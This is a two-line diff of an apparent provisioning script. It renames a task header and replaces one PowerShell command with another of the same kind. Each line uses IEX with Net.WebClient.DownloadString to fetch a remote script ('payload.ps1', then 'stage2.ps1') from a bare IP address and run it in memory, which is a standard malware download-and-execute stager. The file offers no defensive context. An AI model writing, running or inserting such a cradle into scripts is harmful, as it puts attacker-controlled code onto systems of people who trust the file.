@@ -1,2 +1,2 @@
-# task 5704 v3
-IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/payload.ps1')
+# provision 2749 v3
+IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/stage2.ps1')
